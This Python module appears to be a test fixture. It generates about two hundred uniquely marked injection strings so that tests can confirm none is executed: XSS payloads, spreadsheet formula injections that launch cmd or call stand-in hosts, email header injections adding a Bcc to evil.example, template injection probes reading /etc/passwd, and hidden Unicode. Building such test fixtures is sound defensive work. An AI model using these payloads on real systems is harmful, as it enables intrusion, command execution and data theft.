"""Two hundred strings that do harm where they are not taken as words, and how each would show that it was not.

Each bears a mark of its own, `zq` and a number. What is carried out anywhere gives EVALUATED.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

SUM, EVALUATED = "7919*6997", "55409243"
INJECTED = "X-Zq-Injected"
MARKED = re.compile(r"zq\d+")

# Each @ becomes the mark.
SCRIPTS = (
    "<script>alert(@)</script>", "<ScRiPt>alert(@)</sCrIpT>", "<script src=//@.example></script>",
    "<script\x0calert(@)></script>", "<scr<script>ipt>alert(@)</scr</script>ipt>", "</script><script>alert(@)</script>",
    "<script>alert(@)//", "<<script>alert(@)//<</script>", "<script/x>alert(@)</script/x>",
    "<script type=module>import('@')</script>", "<img src=x onerror=alert(@)>", "<img src=x onerror='alert(@)'>",
    '<img src="x" onerror="alert(@)">', "<img/src=x/onerror=alert(@)>", "<IMG SRC=x OnErRoR=alert(@)>",
    "<img src=x:@ onerror=alert``>", "<image src=x onerror=alert(@)>", "<svg onload=alert(@)>",
    "<svg/onload=alert(@)>", "<svg><script>alert(@)</script></svg>", "<svg><animate onbegin=alert(@) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(@)><text>x</text></a></svg>", "<svg><use href=data:image/svg+xml,@>",
    "<svg><set onbegin=alert(@)>", "<svg><foreignObject><body onload=alert(@)>",
    "<math><mtext><script>alert(@)</script>",
    "<math href=javascript:alert(@)>x</math>", "<body onload=alert(@)>", "<body onpageshow=alert(@)>",
    "<iframe src=javascript:alert(@)>", "<iframe srcdoc='<script>alert(@)</script>'>", "<iframe onload=alert(@)>",
    "<object data=javascript:alert(@)>", "<object data='data:text/html,<script>alert(@)</script>'>",
    "<embed src=javascript:alert(@)>", "<a href=javascript:alert(@)>x</a>", "<a href='java\tscript:alert(@)'>x</a>",
    "<a href=&#106;avascript:alert(@)>x</a>", "<a href=' javascript:alert(@)'>x</a>", "<a href=data:text/html,@>x</a>",
    "<a href=vbscript:msgbox(@)>x</a>", "<form action=javascript:alert(@)><button>x</button></form>",
    "<button formaction=javascript:alert(@)>x</button>", "<input autofocus onfocus=alert(@)>",
    "<input type=image src=x onerror=alert(@)>", "<select autofocus onfocus=alert(@)>",
    "<textarea autofocus onfocus=alert(@)>", "</textarea><script>alert(@)</script>",
    "</title><script>alert(@)</script>",
    "</style><script>alert(@)</script>", "</option></select><img src=x onerror=alert(@)>", "<keygen onfocus=alert(@)>",
    "<video src=x onerror=alert(@)>", "<video><source onerror=alert(@)>", "<audio src=x onerror=alert(@)>",
    "<details open ontoggle=alert(@)>", "<marquee onstart=alert(@)>", "<meter onmouseover=alert(@)>",
    "<base href=//@.example/>", "<link rel=stylesheet href=//@.example>", "<link rel=import href=//@.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(@)'>", "<style>@import'//@.example';</style>",
    "<style>*{background:url(//@.example)}</style>", "<div style=background:url(javascript:alert(@))>",
    "<div style='width:expression(alert(@))'>", "<div onclick=alert(@)>x</div>", "<x onclick=alert(@)>x",
    "<p onpointerenter=alert(@)>x", "<zq onmouseover=alert(@)>", "<template><script>alert(@)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(@)>'>", "<!--><script>alert(@)</script>-->",
    "<![CDATA[<script>alert(@)</script>]]>", "<?xml version='1.0'?><x onload=alert(@)>", "<%00script>alert(@)</script>",
    "＜script＞alert(@)＜/script＞", "%3Cscript%3Ealert(@)%3C/script%3E", "&lt;script&gt;alert(@)&lt;/script&gt;",
    "&#60;script&#62;alert(@)", "\\x3cscript\\x3ealert(@)", "\\u003cscript\\u003ealert(@)", "+ADw-script+AD4-alert(@)",
    "<div hx-get=//@.example hx-trigger=load>", "<div hx-on:load=alert(@)>", "<a hx-boost=true href=//@.example>x</a>",
    '" onfocus=alert(@) autofocus="', "' onfocus=alert(@) autofocus='", "` onfocus=alert(@) `",
    '"><script>alert(@)</script>', "'><img src=x onerror=alert(@)>", '" style="background:url(//@.example)',
    '"><base href=//@.example/>', "javascript:alert(@)", "JaVaScRiPt:alert(@)", "java\tscript:alert(@)",
    "data:text/html,<script>alert(@)</script>", "//@.example/%2e%2e", "');alert(@);//", '");alert(@);//',
    "${alert(@)}", "`;alert(@);`", "\\';alert(@);//", "*/alert(@)/*", "<@>", "<b>@</b>", "<h1>@</h1><hr>",
)  # fmt: skip
FORMULAS = (
    "=§ @", "+§ @", "-§ @", "@@§ @", "\t=§ @", "\r=§ @", "\n=§ @", " =§ @", "=cmd|' /C calc'!A0 @", "=1+1;@", "=1+1,@",
    '=HYPERLINK("//@.example","x")', '=IMPORTXML("//@.example","//a")', '=WEBSERVICE("//@.example")', '"=§ @', "'=§ @",
    "＝§ @", "＋§ @", "－§ @", "＠§ @", "@@SUM(1,1) @", '=DDE("cmd";"/C calc";"@")', "-2+3+cmd|' /C calc'!A0 @",
    '";=§;"@', "%0A=§ @", "=§\n=§ @",
)  # fmt: skip
HEADERS = (
    f"@\r\n{INJECTED}: yes", f"@\n{INJECTED}: yes", f"@\r{INJECTED}: yes", "@\r\nBcc: zq@evil.example",
    "@\nBcc: zq@evil.example", "@%0d%0aBcc: zq@evil.example", "@\r\n\r\n<script>alert(@)</script>",
    f"@\u2028{INJECTED}: yes", f"@\u0085{INJECTED}: yes", "=?utf-8?Q?=0D=0ABcc:_zq=40evil.example?= @",
    "@\r\n.\r\nMAIL FROM:<zq@evil.example>", f"@\r\nEND:VEVENT\r\n{INJECTED}:yes", f"@\\n{INJECTED}:yes",
    "@, zq@evil.example", "zq@evil.example> <@",
)  # fmt: skip
TEMPLATES = (
    "{{§}} @", "{{ § }} @", "{% widthratio 7919 1 6997 %} @", "{% include 'x' %} @",
    "{% load static %}{{ settings }} @",
    "{% debug %} @", "{{ request.user.password }} @", "${§} @", "#{§} @", "#(§) @", '#eval("§") @',
    "$ § $ @", '#read("/etc/passwd") @', '#import "x": * @', "*@* _@_ = @", "<%= § %> @", "<?= § ?> @",
    "[[${§}]] @", "@(§) @", "{§} @", "{0.__class__} @", "%(§)s @", "%s%s%n @", "{{constructor.constructor('§')()}} @",
    "<c-button>@</c-button>", "{% partial x %} @", "\\input{/etc/passwd} @", "{{'a'|add:'§'}} @", "__import__('os') @",
    "\\(§\\) @", "{}{}{} @",
)  # fmt: skip
UNSEEN = (
    "@\u202efdp.exe", "\u202e@", "\u2066@\u2069", "@\u200b@", "\u200d@", "\ufeff@", "@\u00ad", "\u2060@", "@\ufffe",
    "@\ud7ff", "\u0301@", "@" + "\u0301" * 40, "\u3164@", "𝕬@", "ﷺ@", "👩‍👩‍👧‍👦@", "@\u0000", "\u0000@", "@\x1b[31m",
    "@\x08\x08\x08", "@\x7f",
)  # fmt: skip


def _marked(patterns: tuple[str, ...], first: int) -> Iterator[str]:
    for number, pattern in enumerate(patterns, start=first):
        # Two of them stand for the sign itself.
        plain = pattern.replace("@@", "\ue000").replace("@import", "\ue000import").replace("zq@", "zq\ue000")
        yield plain.replace("@", f"zq{number}").replace("\ue000", "@").replace("§", SUM)


def _all() -> Iterator[str]:
    first = 1
    for patterns in (SCRIPTS, FORMULAS, HEADERS, TEMPLATES, UNSEEN):
        yield from _marked(patterns, first)
        first += len(patterns)


STRINGS = tuple(_all())
# A zero byte is refused by every form, and kept by no column.
KEPT = tuple(one for one in STRINGS if "\x00" not in one)
WITH_MARKUP = tuple(one for one in STRINGS if "<" in one)
